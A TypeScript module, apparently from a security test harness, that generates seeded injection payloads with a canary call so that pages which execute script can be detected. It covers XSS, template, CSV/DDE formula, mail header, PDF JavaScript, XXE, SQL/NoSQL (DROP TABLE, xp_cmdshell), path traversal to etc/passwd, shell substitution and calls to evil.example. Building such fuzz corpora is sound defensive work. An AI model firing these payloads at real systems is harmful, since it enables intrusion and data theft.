import { type Random, randomFrom } from '../../simulation/random.ts';

/** A text that is harmless as text and does something where it is taken for anything else. */
export interface Attack {
  readonly kind: string;
  readonly text: string;
}

/** What a script would call, were one run: pages of the browser’s part count it. */
export const CANARY = 'canary';

type Grammar = (random: Random, call: string) => string;

const breakers = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</textarea>',
  '</script>',
  '</style>',
  '</title>',
  '`>',
  '&quot;>',
  '\\">',
];
const elements = (call: string): readonly string[] => [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<details open ontoggle=${call}>`,
  `<a href="javascript:${call}">go</a>`,
  `<math><mtext><img src onerror=${call}>`,
  `<form><button formaction=javascript:${call}>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<noscript><p title="</noscript><img src onerror=${call}>">`,
  `<svg><animate onbegin=${call} attributeName=x>`,
  `<style>@import '//evil.example/${call}';</style>`,
  `<template><script>${call}</script></template>`,
  `<x contenteditable onblur=${call}>`,
];
const attributes = ['onmouseover', 'onfocus', 'onclick', 'style', 'autofocus onfocus', 'srcdoc', 'href'];
const mixed = (random: Random, text: string): string =>
  text.replace(/[a-z]/g, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter));
const someElement: Grammar = (random, call) => {
  const element = random.pick(breakers) + random.pick(elements(call));
  return random.chance(0.3) ? mixed(random, element).replace(new RegExp(CANARY, 'i'), CANARY) : element;
};
const someControls = (random: Random): string =>
  random.pick(['\u0000', '\u0008', '\u001b', '\u007f', '\u0085', '\u2028']);

/** From each of these as many texts are made as are asked for, by chance. */
const grammars: Readonly<Record<string, Grammar>> = {
  'HTML and SVG': someElement,
  attribute: (random, call) =>
    `x${random.pick(['"', "'", ' ', '`'])} ${random.pick(attributes)}=${random.pick(['"', "'", ''])}${call}//`,
  JavaScript: (random, call) =>
    random.pick([
      `';${call}//`,
      `";${call}//`,
      `\`-${call}-\``,
      `\\';${call}//`,
      `\${${call}}`,
      `</script><script>${call}//`,
      `\u2028${call}//`,
      `*/${call}/*`,
    ]),
  URL: (random, call) =>
    random.pick([
      `javascript:${call}`,
      `JaVa\tScRiPt:${call}`,
      `data:text/html,<script>${call}</script>`,
      `&#106;avascript:${call}`,
      `//evil.example/${call}`,
      `\u0001javascript:${call}`,
      `vbscript:${call}`,
      `https://evil.example\\@credit.example.org/${call}`,
    ]),
  CSS: (random, call) =>
    random.pick([
      `}*{background:url(javascript:${call})}`,
      `expression(${call})`,
      `red;background:url(//evil.example/${call})`,
      `\\3c script>${call}`,
      `@import '//evil.example/${call}';`,
      `*/}${call}{/*`,
    ]),
  template: (random, call) => {
    const [open, close] = random.pick([
      ['{{', '}}'],
      ['${', '}'],
      ['<%=', '%>'],
      ['#{', '}'],
      ['{%', '%}'],
      ['[[', ']]'],
      ['{', '}'],
      ['@(', ')'],
      ['*{', '}'],
    ] as const);
    return `${open}${random.pick([call, `constructor.constructor('${call}')()`, '7*7', 'provider', '__proto__', 'award', 'T(java.lang.Runtime)'])}${close}`;
  },
  'CSV formula': (random, call) => {
    const before = random.pick(['', '', '\t', '\r', ' ', '\u200b', '\u00a0', '"', '","', '\n', "'"]);
    const sign = random.pick(['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '\t=', '|=']);
    return (
      before +
      sign +
      random.pick([
        `HYPERLINK("//evil.example/${call}","x")`,
        `cmd|' /C ${call}'!A0`,
        `1+1+${call}`,
        `SUM(A1:A9)`,
        `DDE("cmd","/C calc","x")`,
        `IMPORTXML("//evil.example","//a")`,
      ])
    );
  },
  'mail header': (random, call) => {
    const end = random.pick([
      '\r\n',
      '\n',
      '\r',
      '%0d%0a',
      '\u2028',
      '\u0085',
      '\\r\\n',
      '\u000b',
      '\r\n\r\n',
      '\r\n.\r\n',
    ]);
    return `x${end}${random.pick([`Bcc: evil-${call}@example.org`, `Subject: ${call}`, `Content-Type: text/html\r\n\r\n<script>${call}</script>`, `=?utf-8?q?=0d=0aBcc:${call}?=`, 'MAIL FROM:<evil@example.org>', `To: evil@example.org, ${call}`])}`;
  },
  PDF: (random, call) =>
    random.pick([
      ') Tj ET Q q BT (',
      '(',
      '))',
      '\\) Tj (',
      `) >> /OpenAction << /S /JavaScript /JS (${call}) >> (`,
      `endstream endobj 99 0 obj << /S /JavaScript /JS (${call}) >> endobj`,
      '%%EOF\nstartxref\n0',
      `<FEFF0028>${call}`,
      `/URI (javascript:${call})`,
      '\\051\\040Tj',
      `>> /AA << /O << /JS (${call}) >> >>`,
      `EMC /Artifact BMC ${call}`,
    ]) + random.pick(['', ' \\', ')', '%', '\u0000']),
  'log line': (random, call) =>
    random.pick([
      `"}\n{"event":"forged","by":"${call}"}`,
      `\u001b[2J\u001b[31m${call}`,
      `\u001b]0;${call}\u0007`,
      `\u009b31m${call}`,
      `\r${call}`,
      `\u001b]8;;//evil.example/${call}\u001b\\x`,
      `\\u0000","x":"${call}`,
      `\u2028{"event":"${call}"}`,
    ]),
  'XML and XLSX': (random, call) =>
    random.pick([
      `]]><x>${call}</x>`,
      `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///${call}">]>&e;`,
      '&#0;',
      `_x000D_${call}`,
      `_x003D_1+1`,
      `</t></is></c><c t="str"><f>${call}</f></c>`,
      `<?xml version="1.0"?>${call}`,
      '&lol9;',
      '&#x3c;script>',
      `<![CDATA[${call}]]>`,
      `&${call};`,
      '\ufffe\uffff',
    ]),
  Unicode: (random, call) =>
    `${random.pick(['\u202e', '\u2066', '\u200b', '\u200d', '\ufeff', '\u061c', '\ud800', '\udfff', '\u00ad', '\u2028', '\u0300\u0301\u0302', '%c0%bc', '\u180e', '\u{e0041}', '\u3164', '\ufe0f'])}${random.pick([`<script>${call}</script>`, `＜script＞${call}＜/script＞`, 'gnp.exe', 'ﷺﷺﷺ', 'Ada', 'ſcript', `﹤img src=x onerror=${call}﹥`, 'İıſK'])}${random.pick(['\u202c', '\u2069', '', '\u200f'])}`,
  'SQL and NoSQL': (random, call) =>
    random.pick([
      `' OR '1'='1`,
      `"; DROP TABLE ${call};--`,
      `' UNION SELECT ${call}--`,
      '{"$gt":""}',
      '{"$ne":null}',
      `1;EXEC xp_cmdshell('${call}')`,
      "admin'/*",
      `LEARNER#${call}`,
      'attribute_exists(pk)',
      '#n = :v',
      '*)(uid=*',
      `') or ('a'='a`,
    ]),
  'path and shell': (random, call) =>
    random.pick(['../', '..\\', '%2e%2e%2f', '....//', '..%c0%af', 'file:///']).repeat(random.between(1, 5)) +
    random.pick([
      'etc/passwd',
      'windows\\win.ini',
      `$(${call})`,
      `\`${call}\``,
      `;${call}`,
      `|${call}`,
      'con.txt',
      '\u0000.png',
      '.git/config',
      '__proto__',
    ]),
  YAML: (random, call) =>
    random.pick([
      `!!js/function "${call}"`,
      '&a [*a, *a]',
      '- x\n- y',
      `key: ${call}`,
      '--- \n',
      '"unclosed',
      '| \n  x',
      `!<tag:evil.example>${call}`,
      '? x',
      '%YAML 1.1',
      '<<: *x',
      'yes',
      '0x1F',
      '~',
    ]),
  control: (random, call) => `a${someControls(random)}b${someControls(random)}<${call}>${someControls(random)}`,
};

/** Below the shortest limit of any field that takes free text. */
const LONGEST = 98;

/** How many kinds of attacks follow one another, again and again. */
export const KINDS = Object.keys(grammars).length;

/** So many texts from a seed, of each grammar as many, each with a number of its own by which it is known again. */
export function corpusFrom(seed: number, count: number): readonly Attack[] {
  const random = randomFrom(seed);
  const made = Object.entries(grammars);
  return Array.from({ length: count }, (_, number) => {
    const [kind = '', grammar] = made[number % made.length] ?? [];
    const text = grammar?.(random, `${CANARY}(${number})`) ?? '';
    return { kind, text: text.length > LONGEST ? text.slice(0, LONGEST) : text };
  });
}
